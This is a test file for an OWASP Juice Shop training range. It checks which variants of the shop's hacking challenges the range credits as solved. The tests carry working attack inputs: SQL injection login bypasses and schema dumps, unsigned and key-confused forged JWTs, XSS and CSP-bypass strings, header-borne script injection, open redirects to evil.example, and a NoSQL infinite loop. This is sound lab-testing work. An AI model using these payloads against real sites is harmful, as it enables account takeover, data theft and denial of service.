import { createHash, createHmac } from 'node:crypto'
import { once } from 'node:events'
import { type IncomingMessage, request } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SCRIPT_FRAME } from '#range/evidence/payloads.ts'
import { becomeShopper } from '#range/shopper.ts'
import { createVisitor, type Visitor } from '#range/visitor.ts'
import { type OpenRange, openRange } from './support/open-range.ts'

// What the shop really does with it decides: spellings that it takes count, and what it turns into something else does not.

const CODE = 'https://github.com/juice-shop/juice-shop'
const FORM = 'application/x-www-form-urlencoded'
const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
const claimsOf = (name: string) => part({ data: { email: `${name}@juice-sh.op` }, iat: 1_700_000_000 })

async function presentUnsigned(visitor: Visitor, head: object, path = '/api/Users'): Promise<unknown> {
  return visitor.get(path, { headers: { authorization: `Bearer ${part(head)}.${claimsOf('jwtn3d')}.` } })
}

async function presentForged(visitor: Visitor, head: { alg: string; typ?: string }): Promise<unknown> {
  const key = (await visitor.get('/encryptionkeys/jwt.pub')).text
  const input = `${part(head)}.${claimsOf('rsa_lord')}`
  const signature = createHmac(`sha${head.alg.slice(2)}`, key)
    .update(input)
    .digest('base64url')
  return visitor.get('/api/Users', { headers: { authorization: `Bearer ${input}.${signature}` } })
}

/** Signs in as a row that was made up in the query. */
function signInAs(visitor: Visitor, row: { id: number; email: string; role?: string }) {
  const { id, email, role = 'customer' } = row
  const columns = [id, '', email, 'x', role, '', '', '', '', 1, '2020-01-01', '2020-01-01']
  const values = columns.map((value) => (typeof value === 'number' ? value : `'${value}'`)).join()
  return visitor.login(`' UNION SELECT ${values},NULL--`, 'x')
}

async function showScript(visitor: Visitor, imageUrl: string) {
  await becomeShopper(visitor)
  await visitor.post('/profile/image/url', { imageUrl })
  await visitor.post('/profile', { username: '<<a|ascript>alert(`xss`)</script>' })
  return visitor.get('/profile')
}

const hash = createHash('sha256').update('alert(`xss`)').digest('base64')
const redirect = (visitor: Visitor, to: string) => visitor.get(`/redirect?to=${encodeURIComponent(to)}`)
const searchSchema = (visitor: Visitor, rest: string) =>
  visitor.get(`/rest/products/search?q=${encodeURIComponent(`')) UNION SELECT sql,2,3,4,5,6,7,8,9 ${rest}--`)}`)
const LINK = '<a href="https://owasp.slack.com" target="_blank">More</a>'

const COUNT: [key: string, way: string, go: (visitor: Visitor) => Promise<unknown>][] = [
  ...['none', 'None', 'NONE', 'nOnE', 'none-at-all'].map((alg): (typeof COUNT)[number] => [
    'jwtUnsignedChallenge',
    `the algorithm ${alg}`,
    (visitor) => presentUnsigned(visitor, { alg, typ: 'JWT' }),
  ]),
  ['jwtUnsignedChallenge', 'a header without a type', (visitor) => presentUnsigned(visitor, { alg: 'none' })],
  ['jwtForgedChallenge', 'a longer sum', (visitor) => presentForged(visitor, { alg: 'HS384', typ: 'JWT' })],
  ['jwtForgedChallenge', 'the longest sum', (visitor) => presentForged(visitor, { alg: 'HS512', typ: 'JWT' })],
  ['jwtForgedChallenge', 'a header without a type', (visitor) => presentForged(visitor, { alg: 'HS256' })],
  ['redirectChallenge', 'an address without a scheme', (visitor) => redirect(visitor, `//evil.example/?x=${CODE}`)],
  ['loginAdminChallenge', 'his row, selected once more', (visitor) => signInOnceMore(visitor, 1)],
  ['loginJimChallenge', 'his row, selected once more', (visitor) => signInOnceMore(visitor, 2)],
  ['ghostLoginChallenge', 'his row, selected once more', (visitor) => signInOnceMore(visitor, 14)],
  [
    'usernameXssChallenge',
    'a policy for script elements',
    (visitor) => showScript(visitor, "https://a.png; script-src-elem 'unsafe-inline'"),
  ],
  [
    'usernameXssChallenge',
    'a policy in capitals',
    (visitor) => showScript(visitor, "https://a.png; SCRIPT-SRC 'UNSAFE-INLINE'"),
  ],
  [
    'usernameXssChallenge',
    'a policy for this script alone',
    (visitor) => showScript(visitor, `https://a.png; script-src 'sha256-${hash}'`),
  ],
  [
    'dbSchemaChallenge',
    'all tables but the database’s own',
    (visitor) => searchSchema(visitor, "FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'"),
  ],
  [
    'dbSchemaChallenge',
    'all tables and nothing else',
    (visitor) => searchSchema(visitor, "FROM sqlite_schema WHERE type='table'"),
  ],
  [
    'httpHeaderXssChallenge',
    'an address before the frame',
    async (visitor) => {
      await becomeShopper(visitor)
      await visitor.get('/rest/saveLoginIp', { headers: { 'true-client-ip': `10.0.0.1, ${SCRIPT_FRAME}` } })
    },
  ],
  [
    'changeProductChallenge',
    'another name along with the link',
    (visitor) => visitor.put('/api/Products/9', { name: 'A tool', description: LINK }),
  ],
  [
    'changeProductChallenge',
    'another name, and then the link',
    async (visitor) => {
      await visitor.put('/api/Products/9', { name: 'A tool' })
      await visitor.put('/api/Products/9', { description: LINK })
    },
  ],
  ['noSqlCommandChallenge', 'a loop without an end', (visitor) => ask(visitor, '(()=>{for(;;);})()')],
  [
    'emptyUserRegistration',
    'blanks that the shop trims',
    (visitor) => visitor.post('/api/Users', { email: ' ', password: ' ', passwordRepeat: ' ' }),
  ],
]

function signInOnceMore(visitor: Visitor, id: number) {
  return visitor.login(`' UNION SELECT * FROM Users WHERE id=${id}--`, 'x')
}

function ask(visitor: Visitor, product: string) {
  return visitor.get(`/rest/products/${encodeURIComponent(product)}/reviews`)
}

it.each(COUNT)('%s counts: %s', async (key, _way, go) => {
  await using range = await openRange()
  await go(createVisitor(range.url))
  expect(await range.solved()).toEqual([key])
})

describe('what the shop turns into something else', () => {
  let range: OpenRange
  let customer: Visitor

  beforeAll(async () => {
    range = await openRange()
    customer = createVisitor(range.url)
    await becomeShopper(customer)
  })
  afterAll(() => range[Symbol.asyncDispose]())

  const rename = (username: string, headers: Record<string, string>) =>
    customer.post('/profile', `username=${username}`, { headers: { 'content-type': FORM, ...headers } })
  /** Many a proxy passes on the host that it was asked for, without the port. */
  async function renameThroughProxy(username: string) {
    const { hostname, port } = new URL(range.url)
    const signedIn = await customer.login('thirsty@example.org', 'squeeze-me')
    const { token } = signedIn.json<{ authentication: { token: string } }>().authentication
    const headers = { ...ownPage(), host: hostname, 'content-type': FORM, cookie: `token=${token}` }
    const proxied = request({ hostname, port, path: '/profile', method: 'POST', headers })
    proxied.end(`username=${username}`)
    const [reply] = (await once(proxied, 'response')) as [IncomingMessage]
    reply.resume()
    return { status: reply.statusCode ?? 0 }
  }
  const ownPage = () => ({ origin: range.url, referer: `${range.url}/profile` })

  const NOTHING: [name: string, go: (visitor: Visitor) => Promise<{ status: number }>, status: number][] = [
    ['slashes that lean the other way', (visitor) => redirect(visitor, `\\\\evil.example/?x=${CODE}`), 302],
    ['one slash that leans the other way', (visitor) => redirect(visitor, `/\\evil.example/?x=${CODE}`), 302],
    ['a leading blank', (visitor) => redirect(visitor, ` https://evil.example/?x=${CODE}`), 302],
    ['a leading tab', (visitor) => redirect(visitor, `\thttps://evil.example/?x=${CODE}`), 302],
    ['the number of the administrator', (visitor) => signInAs(visitor, { id: 1, email: 'nobody@example.org' }), 200],
    ['the number of Jim', (visitor) => signInAs(visitor, { id: 2, email: 'nobody@example.org' }), 200],
    ['the number of Bender', (visitor) => signInAs(visitor, { id: 3, email: 'jim@juice-sh.op' }), 200],
    ['the number of Chris', (visitor) => signInAs(visitor, { id: 14, email: 'bender@juice-sh.op' }), 200],
    ['the address of the administrator', (visitor) => signInAs(visitor, { id: 20, email: 'admin@juice-sh.op' }), 200],
    ['a product that wears the name', () => copyProduct(), 201],
    ['a rename on the shop’s own page', () => rename('one', ownPage()), 302],
    ['a rename behind a proxy that drops the port', () => renameThroughProxy('two'), 302],
    ['a profile under a policy that stays shut', () => customer.get('/profile'), 200],
    ['a nap that is too short', (visitor) => ask(visitor, 'sleep(30)'), 200],
  ]

  it.each(NOTHING)('%s solves nothing', async (_name, go, status) => {
    const reply = await go(createVisitor(range.url))
    expect(reply.status).toBe(status)
    expect(await range.solved()).toEqual([])
  })

  async function copyProduct() {
    const { data } = (await customer.get('/api/Products/9')).json<{ data: { name: string } }>()
    return customer.post('/api/Products', { name: data.name, description: LINK, price: 1, deluxePrice: 1 })
  }
})
